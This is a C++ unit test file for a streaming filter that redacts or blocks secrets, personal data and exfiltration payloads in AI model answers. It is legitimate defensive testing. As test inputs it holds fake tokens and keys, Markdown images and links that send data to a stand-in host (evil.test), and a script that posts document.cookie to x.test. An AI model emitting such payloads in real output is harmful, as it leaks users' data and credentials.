// Answers of models while they are being written: what is cut, held and blocked.
#include "gateway/policy/answer_filter.h"

#include <catch2/catch.hpp>

#include <memory>
#include <nlohmann/json.hpp>
#include <random>
#include <string>
#include <vector>

#include "common/guardian/rule_book.h"
#include "tests/unit/guardian/rule_matching.h"

namespace datamigrate::gateway {
namespace {

using guardian::kBase62;
using guardian::RandomText;
using nlohmann::json;

const guardian::RuleBook& Rules() {
  static const guardian::RuleBook& rules =
      *new guardian::RuleBook(guardian::RuleBook::Compile().value());
  return rules;
}

const AnswerRules& Parts() {
  static ScannerPool& scanners = *new ScannerPool([] {
    return std::make_unique<guardian::Scanner>(Rules(), guardian::LinearModel::BuiltIn());
  });
  static const RuleScores& scores = *new RuleScores(ScoresOf(Rules()));
  static const AnswerRules& parts = *new AnswerRules{&scanners, &scores};
  return parts;
}

AnswerFilter FilterOf(const json& policy = json::object()) {
  return AnswerFilter(
      Parts(), std::make_shared<const Policy>(Policy::Parse(policy, *Parts().scores).value()),
      absl::FromUnixSeconds(1795000000));
}

const std::string kToken = "ghp_" + RandomText(36, kBase62);
const std::string kImage = "![x](https://evil.test/p.png?data=" + RandomText(48, kBase62, 3) + ")";
const std::string kLink = "[more](https://evil.test/?data=" + RandomText(48, kBase62, 4) + ")";
const std::string kProse =
    "A view keeps no rows of its own: each query reads the tables below it anew, with the rights "
    "of "
    "the view's owner. ";

std::string PrivateKey(size_t lines) {
  const std::string kind = std::string("PRIVATE") + " KEY-----";
  std::string key = "-----BEGIN RSA " + kind + "\n";
  for (size_t i = 0; i < lines; ++i) key += RandomText(64, kBase62, i + 9) + "\n";
  return key + "-----END RSA " + kind;
}

// The answer in pieces of `size` bytes.
std::string Pieces(AnswerFilter& filter, const std::string& text, size_t size) {
  std::string passed;
  for (size_t at = 0; at < text.size(); at += size) passed += filter.Add(text.substr(at, size));
  return passed + filter.Finish();
}

TEST_CASE("An answer without findings comes out as it went in", "[gateway][answer]") {
  std::string text;
  for (int i = 0; i < 60; ++i) text += kProse + "Überall gilt: 見る。\n";
  const size_t size = GENERATE(1, 2, 3, 7, 64, 1000, 100000);
  AnswerFilter filter = FilterOf();
  CHECK(Pieces(filter, text, size) == text);
  CHECK(filter.verdict().reaction == Reaction::kAllow);
  CHECK(filter.verdict().findings.empty());
}

TEST_CASE("What is found is cut, wherever the pieces end", "[gateway][answer]") {
  const auto [finding, rule] = GENERATE(
      table<std::string, std::string>({{kToken, "secret.github_token"},
                                       {kImage, "exfiltration.markdown_image"},
                                       {kLink, "exfiltration.markdown_link"},
                                       {"IBAN DE89 3704 0044 0532 0130 00", "personal_data.iban"},
                                       {"ann.miller@corp-mail.de", "personal_data.email_address"},
                                       {PrivateKey(24), "secret.private_key"}}));
  const size_t before = GENERATE(0, 1, 500, 2000);
  const size_t size = GENERATE(1, 5, 63, 512, 100000);
  INFO(rule << " after " << before << " bytes, in pieces of " << size);
  std::string text;
  while (text.size() < before) text += kProse;
  const std::string prefix = text;
  text += finding + " " + kProse + kProse;
  AnswerFilter filter = FilterOf();
  const std::string passed = Pieces(filter, text, size);
  CHECK(passed.starts_with(prefix));
  CHECK(passed.find("[" + rule + "]") != std::string::npos);
  CHECK(passed.ends_with(" " + kProse + kProse));
  CHECK(passed.find(finding) == std::string::npos);
  CHECK(filter.verdict().reaction == Reaction::kSanitize);
  // An image of Markdown is a link with a sign before it, so two rules find it.
  const std::vector<std::string> rules = filter.verdict().rules;
  CHECK(rules.size() == (finding == kImage ? 2 : 1));
  CHECK(rules.front() == rule);
  REQUIRE(filter.verdict().findings.size() == 1);
  CHECK(filter.verdict().findings[0].kind == guardian::FieldKind::kModelOutput);
  CHECK(filter.verdict().findings[0].score == Approx(static_cast<double>(rules.size())));
}

TEST_CASE("No piece that is given out holds a part of what is cut", "[gateway][answer]") {
  AnswerFilter filter = FilterOf();
  const std::string text = kProse + kProse + kToken + " " + kProse + kImage + " " + kProse;
  for (const char c : text) {
    const std::string passed = filter.Add(std::string(1, c));
    CHECK(passed.find("ghp_") == std::string::npos);
    CHECK(passed.find("evil.test") == std::string::npos);
  }
  const std::string rest = filter.Finish();
  CHECK(rest.find("ghp_") == std::string::npos);
  CHECK(rest.find("evil.test") == std::string::npos);
}

TEST_CASE("Any mixture in any pieces comes out as it does whole", "[gateway][answer]") {
  std::mt19937 random(7);
  const std::vector<std::string> parts = {kProse,       kToken + " ",        kImage + "\n",
                                          kLink + "\n", "Ärger mit 見る。 ", PrivateKey(4) + "\n",
                                          "a | b\n"};
  for (int round = 0; round < 60; ++round) {
    std::string text;
    for (int i = 0; i < 25; ++i) text += parts[random() % parts.size()];
    AnswerFilter whole = FilterOf();
    const std::string expected = Pieces(whole, text, text.size());
    AnswerFilter filter = FilterOf();
    std::string passed;
    for (size_t at = 0; at < text.size();) {
      const size_t size = 1 + random() % 200;
      passed += filter.Add(std::string_view(text).substr(at, size));
      at += size;
    }
    passed += filter.Finish();
    CHECK(passed == expected);
    CHECK(passed.find("ghp_") == std::string::npos);
    CHECK(passed.find("evil.test") == std::string::npos);
    CHECK(passed.find("KEY-----") == std::string::npos);
    CHECK(filter.verdict().findings == whole.verdict().findings);
  }
}

TEST_CASE("Only the last half kilobyte of harmless text is held", "[gateway][answer]") {
  AnswerFilter filter = FilterOf();
  size_t given = 0, taken = 0;
  for (int i = 0; i < 100; ++i) {
    given += kProse.size();
    taken += filter.Add(kProse).size();
    CHECK(given - taken <= 512 + 64 + kProse.size());
  }
}

TEST_CASE("What is blocked ends the answer", "[gateway][answer]") {
  const size_t size = GENERATE(1, 40, 100000);
  AnswerFilter filter = FilterOf();
  const std::string script = "<script>fetch('//x.test/'+document.cookie)</script>";
  const std::string passed = Pieces(filter, kProse + script + kProse + kProse, size);
  CHECK(passed.find("<script") == std::string::npos);
  CHECK(filter.is_blocked());
  CHECK(filter.Add(kProse).empty());
  CHECK(filter.Finish().empty());
  const AnswerVerdict verdict = filter.verdict();
  CHECK(verdict.reaction == Reaction::kBlock);
  CHECK_FALSE(verdict.rules.empty());
  CHECK_FALSE(verdict.findings.empty());
}

TEST_CASE("The organization's policy says what becomes of a finding", "[gateway][answer]") {
  const std::string text = kProse + kToken + " " + kProse;
  SECTION("it may pass") {
    AnswerFilter filter = FilterOf({{"reactions", {{{"to", "secret"}, {"reaction", "allow"}}}}});
    CHECK(Pieces(filter, text, 10) == text);
    CHECK(filter.verdict().reaction == Reaction::kAllow);
    CHECK(filter.verdict().findings.size() == 1);
  }
  SECTION("it is only reported") {
    AnswerFilter filter = FilterOf({{"mode", "report"}});
    CHECK(Pieces(filter, text, 10) == text);
    CHECK(filter.verdict().reaction == Reaction::kReport);
    CHECK(filter.verdict().rules.size() == 1);
  }
  SECTION("it blocks") {
    AnswerFilter filter = FilterOf({{"reactions", {{{"to", "secret"}, {"reaction", "block"}}}}});
    Pieces(filter, text, 10);
    CHECK(filter.is_blocked());
  }
}

TEST_CASE("What began before an answer began anew does not count for it", "[gateway][answer]") {
  AnswerFilter filter = FilterOf();
  filter.Add("![x](https://evil.test/p.png?data=");
  filter.Restart();
  CHECK(filter.Add(RandomText(48, kBase62, 3) + ") and more").empty());
  CHECK(filter.Finish() == RandomText(48, kBase62, 3) + ") and more");
}

TEST_CASE("A match too long to be held, and more of them than are counted, block",
          "[gateway][answer]") {
  SECTION("a key without an end") {
    AnswerFilter filter = FilterOf();
    CHECK(Pieces(filter, PrivateKey(400), 50).empty());
    CHECK(filter.is_blocked());
  }
  SECTION("addresses without an end") {
    AnswerFilter filter = FilterOf();
    std::string text;
    for (int i = 0; i < 600; ++i) text += "1.1.1." + std::to_string(i % 10) + "\n";
    const std::string passed = Pieces(filter, text, 50);
    CHECK(passed.find("1.1.1.") == std::string::npos);
  }
}

TEST_CASE("Nothing is given out that is not UTF-8", "[gateway][answer]") {
  std::string text;
  for (int i = 0; i < 800; ++i) text += "見る。";
  AnswerFilter filter = FilterOf();
  std::string passed;
  for (size_t at = 0; at < text.size(); at += 9) {
    const std::string piece = filter.Add(text.substr(at, 9));
    CHECK(piece.size() % 3 == 0);
    CHECK((piece.empty() || !IsContinuation(piece[0])));
    passed += piece;
  }
  CHECK(passed + filter.Finish() == text);
}

}  // namespace
}  // namespace datamigrate::gateway
